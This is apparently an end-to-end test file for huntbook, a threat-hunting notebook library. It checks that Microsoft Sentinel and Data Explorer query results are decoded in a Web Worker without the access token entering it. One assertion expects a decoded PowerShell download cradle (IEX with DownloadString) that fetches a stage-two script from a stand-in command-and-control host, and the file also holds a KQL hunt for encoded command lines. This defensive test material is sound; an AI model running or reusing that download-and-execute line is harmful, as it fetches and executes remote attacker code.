// `qp.execQuery(kql, {worker})` (issue #16) in headless Chromium: a Microsoft Sentinel (Log Analytics) or Data
// Explorer query is fetched on the page through the wasm transport (token from getToken(), retries, errors as
// without a worker) and only the answer's bytes go to huntbook's Worker, which reads them into a WorkerTable with
// the rows `execQuery` gives on the page; partial answers stay marked partial, errors are the page's, and the token
// never appears in any message between the page and the Worker. Then the Tour: its "unpack-table" cell runs in the
// Worker, on the demo data and in Sentinel mode against a stand-in for api.loganalytics.io that answers from the
// same demo workspace (KQL run in Node), with the same decoded fragments and C2 URLs.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { openBrowser, offLoopback } from "./browser.mjs";
import { loadHuntbook, fixture } from "../js/helpers.mjs";

const TOKEN = "e2e-worker-token-91f3";
const WS = "52b1ab41-869e-4138-9e40-2a4457f09bf0";
const LA_FIXTURE = fixture("tour/asn_host_logons.la.json").toString();
const ADX_FIXTURE = fixture("loganalytics/kusto_raw_resp.json").toString();
const seen = [];
let b;
let server;
let base;

/** Records every message between the page and any Worker (bytes as text, before a transfer empties them). */
const RECORD_WORKER_MESSAGES = () => {
  const text = (v) => JSON.stringify(v, (_k, x) => {
    if (x instanceof ArrayBuffer) return new TextDecoder().decode(x);
    if (ArrayBuffer.isView(x)) return new TextDecoder().decode(new Uint8Array(x.buffer, x.byteOffset, x.byteLength));
    if (typeof x === "bigint") return `${x}n`;
    return x;
  });
  window.workerMessages = [];
  const W = window.Worker;
  window.Worker = class extends W {
    constructor(...args) {
      super(...args);
      this.addEventListener("message", (e) => window.workerMessages.push({ dir: "in", text: text(e.data) }));
    }
    postMessage(message, transfer) {
      window.workerMessages.push({ dir: "out", op: message?.op, text: text(message) });
      return super.postMessage(message, transfer);
    }
  };
};

before(async () => {
  b = await openBrowser();
  server = http.createServer((req, res) => {
    const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "authorization, content-type, prefer, accept" };
    if (req.method === "OPTIONS") { res.writeHead(204, cors); return res.end(); }
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      seen.push({ url: req.url, auth: req.headers.authorization, body });
      const send = (status, payload) => {
        res.writeHead(status, { ...cors, "content-type": "application/json" });
        res.end(typeof payload === "string" ? payload : JSON.stringify(payload));
      };
      const q = JSON.parse(body || "{}");
      if (req.url === "/v2/rest/query") {
        if (q.csl === "cut") return send(200, JSON.stringify(JSON.parse(ADX_FIXTURE).slice(0, -1))); // no DataSetCompletion
        return send(200, ADX_FIXTURE);
      }
      switch (q.query) {
        case "logons": return send(200, LA_FIXTURE);
        case "partial": {
          const a = JSON.parse(LA_FIXTURE);
          a.error = { code: "PartialError", message: "There were some errors when processing your query.", details: [{ code: "EngineError", message: "<b>limit</b> exceeded" }] };
          return send(200, a);
        }
        case "empty": res.writeHead(204, cors); return res.end();
        case "semantic": return send(400, { error: { message: "The request had some invalid properties", code: "BadArgumentError", innererror: { code: "SemanticError", message: "A semantic error occurred.", innererror: { code: "SEM0100", message: "'where' operator: Failed to resolve table or column expression named 'IpAdress'" } } } });
        case "hang": return; // never answers
        default: return send(400, { error: { code: "BadArgumentError", message: `unknown test query ${q.query}` } });
      }
    });
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${server.address().port}`;
});
after(async () => {
  server.closeAllConnections?.();
  await new Promise((r) => server.close(r));
  await b.close();
});

test("execQuery({worker}): Log Analytics and Data Explorer answers read in the worker, equal to the page's; the token stays on the page", async () => {
  const { page, errors } = await b.newPage();
  await page.addInitScript(RECORD_WORKER_MESSAGES);
  await page.goto(`${b.base}/e2e/blank.html`);
  const r = await page.evaluate(async ({ base, TOKEN, WS }) => {
    const hb = await import("/huntbook/index.js");
    await hb.init();
    const w = await hb.worker();
    const rowsText = (rows) => JSON.stringify(rows, (_k, v) => (typeof v === "bigint" ? `${v}n` : v));
    const qp = new hb.QueryProvider("MSSentinel").connect({ workspaceId: WS, baseUrl: base, getToken: async () => TOKEN });
    const adx = new hb.QueryProvider("Kusto").connect({ cluster: base, database: "Samples", getToken: () => TOKEN });
    const both = async (p, kql) => {
      const page = await p.execQuery(kql);
      const t = await p.execQuery(kql, { worker: w });
      return {
        isWorkerTable: t instanceof hb.WorkerTable,
        shape: [page.shape, t.shape], name: [page.name, t.name], schema: [page.schema, t.schema],
        notes: [page.notes, t.notes], error: [page.error, t.error],
        rows: [rowsText(page.toRows()), rowsText(await t.toRows())],
        html: [page.toHTML({ maxRows: 3 }), await t.toHTML({ maxRows: 3 })],
      };
    };
    const out = {
      logons: await both(qp, "logons"), partial: await both(qp, "partial"), empty: await both(qp, "empty"),
      adx: await both(adx, "StormEvents | take 10"), cut: await both(adx, "cut"),
    };
    const fail = (p) => p.then(() => "resolved", (e) => `${e.name}: ${e.message}`);
    out.semantic = [await fail(qp.execQuery("semantic")), await fail(qp.execQuery("semantic", { worker: w }))];
    const c = new AbortController();
    setTimeout(() => c.abort(), 300);
    out.cancelled = await fail(qp.execQuery("hang", { worker: w, signal: c.signal }));
    out.afterCancel = (await qp.execQuery("logons", { worker: w })).numRows;
    out.notAWorker = await fail(qp.execQuery("logons", { worker: {} }));
    out.ops = window.workerMessages.filter((m) => m.dir === "out").map((m) => m.op);
    out.messages = window.workerMessages.map((m) => m.text);
    return out;
  }, { base, TOKEN, WS });

  const la = JSON.parse(LA_FIXTURE).tables[0];
  for (const [name, x] of Object.entries({ logons: r.logons, partial: r.partial, empty: r.empty, adx: r.adx, cut: r.cut })) {
    assert.ok(x.isWorkerTable, name);
    assert.deepEqual(x.shape[1], x.shape[0], name);
    assert.deepEqual(x.name[1], x.name[0], name);
    assert.deepEqual(x.schema[1], x.schema[0], name);
    assert.deepEqual(x.notes[1], x.notes[0], name);
    assert.deepEqual(x.error[1], x.error[0], name);
    assert.equal(x.rows[1], x.rows[0], name);
    assert.equal(x.html[1], x.html[0], name);
  }
  // real values: the fixture's rows and columns
  assert.deepEqual(r.logons.shape[1], [la.rows.length, la.columns.length]);
  assert.deepEqual(r.logons.schema[1].map((c) => c.name), la.columns.map((c) => c.name));
  assert.equal(JSON.parse(r.logons.rows[1])[0].Account, la.rows[0][la.columns.findIndex((c) => c.name === "Account")]);
  assert.equal(r.logons.error[1], null);
  // a partial answer is never shown as complete: the error beside the rows, the banner in the HTML
  assert.equal(r.partial.error[1].code, "PartialError");
  assert.equal(r.partial.shape[1][0], la.rows.length);
  assert.match(r.partial.html[1], /Partial result/);
  assert.match(r.partial.html[1], /&lt;b&gt;limit&lt;\/b&gt; exceeded/);
  // 204: the empty table that says why
  assert.deepEqual(r.empty.shape[1], [0, 0]);
  assert.match(r.empty.notes[1][0], /Log Analytics answered 204 No Content/);
  // Data Explorer: the v2 answer's primary result; cut short → marked incomplete
  assert.ok(r.adx.shape[1][0] > 0, JSON.stringify(r.adx.shape));
  assert.equal(r.adx.error[1], null);
  assert.equal(r.cut.error[1].code, "Incomplete");
  // errors are the page's, word for word
  assert.match(r.semantic[0], /^Error: .*HTTP 400 BadArgumentError: .*Failed to resolve table or column expression named 'IpAdress'/);
  assert.equal(r.semantic[1], r.semantic[0]);
  assert.match(r.cancelled, /cancelled/);
  assert.equal(r.afterCancel, la.rows.length);
  assert.match(r.notAWorker, /^TypeError: execQuery: option 'worker' must be huntbook's worker/);
  // the answers crossed as readTables calls with their status; the token never did
  assert.equal(r.ops.filter((op) => op === "readTables").length, 6, r.ops.join());
  assert.ok(r.messages.some((m) => m.includes('"format":"la","status":204')), "204 crossed as a status");
  for (const m of r.messages) assert.ok(!m.includes(TOKEN), `token in a worker message: ${m.slice(0, 200)}`);
  const fromWorker = r.messages.join("\n");
  assert.ok(fromWorker.includes(la.rows[0][0]), "the answer's bytes did go to the worker");
  for (const s of seen) {
    if (s.url.startsWith("/v1/")) assert.equal(s.url, `/v1/workspaces/${WS}/query`);
    assert.equal(s.auth, `Bearer ${TOKEN}`);
    assert.ok(!s.body.includes(TOKEN));
  }
  assert.deepEqual(errors.filter((e) => !/40\d|Bad Request/.test(e)), []);
  assert.deepEqual(offLoopback(b.requests), []);
});

test("execQuery({worker}) on local data: the demo load's copy in the worker, or a clear refusal", async () => {
  const { page, errors } = await b.newPage();
  await page.goto(`${b.base}/e2e/blank.html`);
  const r = await page.evaluate(async () => {
    const hb = await import("/huntbook/index.js");
    await hb.init();
    const w = await hb.worker();
    const rowsText = (rows) => JSON.stringify(rows, (_k, v) => (typeof v === "bigint" ? `${v}n` : v));
    const demo = await hb.loadDemo(); // newest event now, as the Tour loads it
    const qp = new hb.QueryProvider("LocalData");
    const kql = "SigninLogs | where TimeGenerated > ago(3d) | summarize n = count() by IPAddress | order by n desc, IPAddress asc";
    const page = await qp.execQuery(kql);
    const t = await qp.execQuery(kql, { worker: w });
    const fail = (p) => p.then(() => "resolved", (e) => `${e.name}: ${e.message}`);
    const own = new hb.QueryProvider("LocalData", { data: demo });
    const added = new hb.QueryProvider("LocalData").addTable("Mine", demo.table("SigninLogs").head(2));
    return {
      page: rowsText(page.toRows()), worker: rowsText(await t.toRows()), isWorkerTable: t instanceof hb.WorkerTable,
      n: page.numRows,
      own: await fail(own.execQuery("SigninLogs | take 1", { worker: w })),
      added: await fail(added.execQuery("Mine", { worker: w })),
    };
  });
  assert.ok(r.isWorkerTable);
  assert.ok(r.n > 3, `${r.n} IPs`);
  assert.equal(r.worker, r.page, "the worker's demo copy has the page's `now`: ago() agrees");
  assert.match(r.own, /^Error: execQuery\(\{worker\}\): this provider queries a LocalData of the page \(\{data\}\), which cannot move into huntbook's worker/);
  assert.match(r.added, /^Error: execQuery\(\{worker\}\): the table\(s\) 'Mine' added with addTable are on the page only/);
  assert.deepEqual(errors, []);
});

/** A Log Analytics answer of `df` (a DataFrame), as the service writes one. */
function laAnswer(df) {
  const columns = df.schema.map(({ name, type }) => ({ name, type }));
  const rows = df.toRows().map((row) => columns.map(({ name }) => {
    const v = row[name];
    if (v instanceof Date) return v.toISOString();
    if (typeof v === "bigint") return Number(v);
    return v ?? null;
  }));
  return JSON.stringify({ tables: [{ name: "PrimaryResult", columns, rows }] });
}

test("the Tour's unpack-table cell runs in the worker, on demo data and in Sentinel mode (the token stays on the page)", async () => {
  const hb = await loadHuntbook();
  const NOW = Date.now();
  await hb.loadDemo({ now: NOW });
  const local = new hb.QueryProvider("LocalData");
  const results = {};
  for (const mode of ["demo", "sentinel"]) {
    const { page, errors } = await b.newPage();
    await page.addInitScript(RECORD_WORKER_MESSAGES);
    const asked = [];
    if (mode === "sentinel") {
      // api.loganalytics.io, answered in the test from the demo workspace; anything else off loopback is refused
      await page.route(/^https?:\/\/(?!127\.0\.0\.1[:/])/, async (route) => {
        const url = new URL(route.request().url());
        if (url.hostname !== "api.loganalytics.io") return route.abort();
        const cors = { "access-control-allow-origin": "*", "access-control-allow-headers": "authorization, content-type, prefer" };
        if (route.request().method() === "OPTIONS") return route.fulfill({ status: 204, headers: cors });
        const { query } = JSON.parse(route.request().postData());
        asked.push({ query, auth: route.request().headers().authorization });
        try {
          return route.fulfill({ status: 200, headers: cors, contentType: "application/json", body: laAnswer(await local.execQuery(query)) });
        } catch (e) {
          return route.fulfill({ status: 400, headers: cors, contentType: "application/json", body: JSON.stringify({ error: { code: "BadArgumentError", message: String(e.message) } }) });
        }
      });
    }
    await page.goto(`${b.base}/tour/`);
    await page.click(`#cell-source button[name=${mode}]`);
    if (mode === "sentinel") {
      await page.fill("#cell-source input[name=workspaceId]", WS);
      await page.fill("#cell-source input[name=token]", TOKEN);
      await page.click("#cell-source form:has(input[name=workspaceId]) button");
    }
    await page.waitForFunction(() => ["done", "error"].includes(document.querySelector("#cell-unpack-table")?.dataset.state), null, { timeout: 120000 });
    const [state, err] = await page.$eval("#cell-unpack-table", (c) => [c.dataset.state, c.querySelector(".error")?.textContent]);
    assert.equal(state, "done", `${mode}: ${err}`);
    const cellRows = (sel) => page.$$eval(`${sel} tbody tr`, (trs) => trs.map((tr) => [...tr.cells].map((td) => td.textContent)));
    results[mode] = {
      code: await page.textContent("#cell-unpack-table pre.code"),
      summary: await page.textContent("#cell-unpack-table .summary"),
      fragments: await cellRows("#cell-unpack-table .labelled:nth-of-type(1)"),
      iocs: await cellRows("#cell-unpack-table .labelled:nth-of-type(2)"),
      messages: await page.evaluate(() => window.workerMessages),
      asked,
      errors: [...errors],
    };
    await page.close();
  }
  const procs = await local.execQuery(`SecurityEvent
  | where EventID == 4688 and (CommandLine contains "-enc" or CommandLine contains "FromBase64String")
  | project TimeGenerated, Computer, Account, CommandLine`);
  const decoded = hb.unpackTable(procs, "CommandLine");
  for (const [mode, r] of Object.entries(results)) {
    assert.match(r.code, /const worker = await huntbook\.worker\(\);/, "the shown code uses the worker");
    assert.match(r.code, /CommandLine`, \{ worker \}\);/);
    assert.match(r.code, /await worker\.unpackTable\(procs, "CommandLine"\)/);
    assert.equal(r.summary, `${procs.numRows} command lines with base64, ${decoded.numRows} decoded fragments`, mode);
    const texts = r.fragments.map((row) => row[2]);
    assert.ok(texts.includes("IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')"), `${mode}: ${texts.join("\n")}`);
    const urls = [...new Set(r.iocs.filter((row) => row[0] === "url").map((row) => row[1]))].sort();
    assert.deepEqual(urls, ["http://cdn-updates.northwind-sync.xyz/stage2.ps1", "https://cdn-updates.northwind-sync.xyz/api/beacon"], mode);
    // the cell's work went through huntbook's worker
    const ops = r.messages.filter((m) => m.dir === "out").map((m) => m.op);
    for (const op of ["unpackTable", "extractIocsTable", "toHTML"]) assert.ok(ops.includes(op), `${mode}: ${op} in ${ops.join()}`);
    assert.ok(ops.includes(mode === "demo" ? "query" : "readTables"), `${mode}: ${ops.join()}`);
    for (const m of r.messages) assert.ok(!m.text.includes(TOKEN), `${mode}: token in a worker message`);
  }
  const s = results.sentinel;
  assert.ok(s.asked.some((a) => a.query.startsWith("SecurityEvent")), s.asked.map((a) => a.query).join("\n"));
  for (const a of s.asked) assert.equal(a.auth, `Bearer ${TOKEN}`);
  assert.ok(s.messages.some((m) => m.op === "readTables" && m.text.includes("FromBase64String")), "the SecurityEvent answer's bytes went to the worker");
  assert.deepEqual(results.demo.errors, []);
  assert.deepEqual(results.demo.fragments, s.fragments, "Sentinel mode shows what demo mode shows");
});

test("worker() from another origin (a CDN, as Observable loads huntbook) starts through a blob: module", async () => {
  const { page, errors } = await b.newPage();
  await page.goto(`${b.base}/e2e/blank.html`);
  const other = b.base.replace("127.0.0.1", "localhost");
  const r = await page.evaluate(async (other) => {
    const hb = await import("/huntbook/index.js");
    await hb.init();
    const w = await hb.worker({ workerUrl: `${other}/huntbook/worker.js` });
    const demo = await w.loadDemo({ now: Date.UTC(2026, 0, 1) });
    const t = await demo.query("SecurityAlert | count");
    return { version: await w.version(), rows: await t.toRows(), page: hb.version() };
  }, other);
  assert.equal(r.version, r.page);
  assert.ok(r.rows[0].Count > 0, JSON.stringify(r.rows));
  assert.ok(b.requests.some((u) => u.startsWith(`${other}/huntbook/worker.js`)), "worker.js came from the other origin");
  assert.deepEqual(errors, []);
});
